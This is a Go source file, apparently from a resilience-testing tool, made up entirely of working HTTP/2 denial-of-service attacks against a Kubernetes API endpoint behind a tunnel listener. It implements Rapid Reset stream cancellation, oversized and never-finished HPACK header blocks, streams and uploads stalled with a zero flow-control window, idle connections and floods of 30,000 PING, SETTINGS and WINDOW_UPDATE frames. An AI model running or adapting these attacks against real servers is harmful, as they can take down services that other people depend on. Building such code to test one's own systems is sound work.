package attack

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	http2Streams = 15 // that the tunnel listener takes on a connection
	frameSize    = 16 << 10
)

// noWindow is the setting of a caller who takes no body.
var noWindow = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}

// framer is an attacker's connection of HTTP/2. What is written is sent by await or hold.
type framer struct {
	*connection
	*http2.Framer

	out     *bufio.Writer
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32 // the last one
}

// frames is connect for HTTP/2. Errors of writing remain until await or hold.
func (t Target) frames(ctx context.Context, c *Counts, receiveBuffer int, settings ...http2.Setting) *framer {
	conn := t.connect(ctx, c, receiveBuffer)
	if conn == nil {
		return nil
	}
	out := bufio.NewWriterSize(conn, frameSize)
	f := &framer{connection: conn, Framer: http2.NewFramer(out, conn), out: out}
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	f.encoder = hpack.NewEncoder(&f.block)
	_, _ = out.WriteString(http2.ClientPreface)
	_ = f.WriteSettings(settings...)
	return f
}

// get writes a whole request, with the target's token.
func (f *framer) get(t Target, path string) {
	f.block.Reset()
	fields := []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: t.Host}, {Name: ":path", Value: path}}
	if t.Token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + t.Token})
	}
	for _, field := range fields {
		_ = f.encoder.WriteField(field)
	}
	f.headers(f.block.Bytes(), true)
}

// headers writes a block of headers on a new stream.
func (f *framer) headers(block []byte, finish bool) {
	f.stream += 1 + f.stream&1 // odd
	n := min(len(block), frameSize)
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.stream, BlockFragment: block[:n], EndStream: true,
		EndHeaders: finish && n == len(block)})
	for block = block[n:]; len(block) > 0; block = block[n:] {
		n = min(len(block), frameSize)
		_ = f.WriteContinuation(f.stream, finish && n == len(block), block[:n])
	}
}

// await sends what was written, and counts answers until the server closes the connection.
func (f *framer) await() {
	for err := f.out.Flush(); err == nil; {
		var frame http2.Frame
		if frame, err = f.ReadFrame(); err == nil {
			if answer, ok := frame.(*http2.MetaHeadersFrame); ok {
				code, _ := strconv.Atoi(answer.PseudoValue("status"))
				f.count.answer(code)
			}
		}
	}
	f.end(true)
}

// hold sends what was written, and waits up to a minute until the server closes the connection, but reads nothing.
func (f *framer) hold() {
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	cut := f.out.Flush() != nil
	for n := 0; n < 60 && !cut && f.ctx.Err() == nil; n++ {
		select {
		case <-f.ctx.Done():
		case <-tick.C:
			cut = !f.established()
		}
	}
	f.end(cut)
}

// literal returns a field of HPACK as it is, without indexing and Huffman's code.
func literal(name, value string) []byte {
	field := []byte{0}
	for _, s := range []string{name, value} {
		n := len(s)
		if n < 127 {
			field = append(field, byte(n))
		} else {
			field = append(field, 127)
			for n -= 127; n >= 128; n >>= 7 {
				field = append(field, byte(n)|128)
			}
			field = append(field, byte(n))
		}
		field = append(field, s...)
	}
	return field
}

// blocks returns blocks of headers of nearly the size that the tunnel listener takes.
func blocks() map[string][]byte {
	begin := []byte{0x82, 0x84, 0x87} // GET / https
	fields := func(n int, field []byte) []byte { return append(begin[:3:3], bytes.Repeat(field, n)...) }
	large := literal("a", strings.Repeat("a", 4000))
	large[0] = 0x40 // with indexing
	// A name and a value for which HPACK waits.
	waiting := literal(strings.Repeat("a", 120<<10), strings.Repeat("a", 120<<10))
	return map[string][]byte{
		"long":       append(fields(0, nil), literal("a", strings.Repeat("a", 120<<10))...),
		"short":      fields(3700, literal("aa", "")),
		"indexed":    append(fields(0, nil), append(large, bytes.Repeat([]byte{0x80 | 62}, 30)...)...),
		"one byte":   fields(3600, []byte{0x80 | 21}), // age
		"incomplete": append(fields(3000, literal("aa", "")), waiting[:len(waiting)-1]...),
	}
}

// UnfinishedHeaders sends a block of headers that does not end. If the target has a token, it watches path beside it.
func UnfinishedHeaders(t Target, path string, block []byte) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 0); f != nil {
			if t.Token != "" {
				f.get(t, t.Prefix+path)
			}
			f.headers(block, false)
			f.await()
		}
		return false
	}
}

// UnreadAnswers sends whole requests on all streams of a connection, over and over, and reads nothing.
func UnreadAnswers(t Target, block []byte) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 4<<10, noWindow); f != nil {
			for n := 0; n < 3*http2Streams && f.out.Flush() == nil; n++ {
				f.headers(block, true)
			}
			f.hold()
		}
		return false
	}
}

// StalledStreams requests a path of the Kubernetes API on all streams of a connection, and takes no body.
func StalledStreams(t Target, path string) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 0, noWindow); f != nil {
			for range http2Streams {
				f.get(t, t.Prefix+path)
			}
			f.await()
		}
		return false
	}
}

// StalledConnection is StalledStreams with streams that take all, on a connection that takes 64 KiB.
func StalledConnection(t Target, path string) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 0, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}); f != nil {
			for range http2Streams {
				f.get(t, t.Prefix+path)
			}
			f.await()
		}
		return false
	}
}

// StalledUploads sends objects to a path of the Kubernetes API on all streams of a connection, but for the last bytes.
func StalledUploads(t Target, path string, size int) Attack {
	body := make([]byte, size-1)
	return func(ctx context.Context, c *Counts) bool {
		conn := t.connect(ctx, c, 0)
		if conn == nil {
			return false
		}
		transport := &http.Transport{
			ForceAttemptHTTP2: true,
			DialTLSContext:    func(context.Context, string, string) (net.Conn, error) { return conn.Conn, nil },
		}
		client, err := transport.NewClientConn(ctx, "https", t.Addr)
		if err != nil {
			conn.end(true)
			return false
		}
		var uploads sync.WaitGroup
		for range http2Streams {
			uploads.Go(func() {
				rest, stop := io.Pipe()
				defer func() { _ = stop.Close() }()
				req, err := http.NewRequestWithContext(ctx, http.MethodPost, t.URL(t.Prefix+path),
					io.MultiReader(bytes.NewReader(body), rest))
				if err != nil {
					panic(err)
				}
				req.ContentLength = int64(size)
				req.Header.Set("Authorization", "Bearer "+t.Token)
				if resp, err := client.RoundTrip(req); err == nil {
					c.answer(resp.StatusCode)
					_ = resp.Body.Close()
				}
			})
		}
		uploads.Wait()
		conn.end(false)
		return false
	}
}

// IdleHTTP2 requests /health once and then sends nothing more.
func IdleHTTP2(t Target) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 0); f != nil {
			f.get(t, "/health")
			f.await()
		}
		return false
	}
}

// RapidReset requests a path of the Kubernetes API and gives up at once, 500 times.
func RapidReset(t Target, path string) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 0); f != nil {
			for range 500 {
				f.get(t, t.Prefix+path)
				_ = f.WriteRSTStream(f.stream, http2.ErrCodeCancel)
			}
			f.await()
		}
		return false
	}
}

// ControlFrames sends 30,000 frames that the server answers or keeps, and reads nothing.
func ControlFrames(t Target) Attack {
	return func(ctx context.Context, c *Counts) bool {
		if f := t.frames(ctx, c, 4<<10); f != nil {
			f.get(t, "/health")
			for n := 0; n < 10_000; n++ {
				_ = f.WritePing(false, [8]byte{})
				_ = f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(n) & 4095})
				if f.WriteWindowUpdate(0, 1) != nil {
					break
				}
			}
			f.hold()
		}
		return false
	}
}
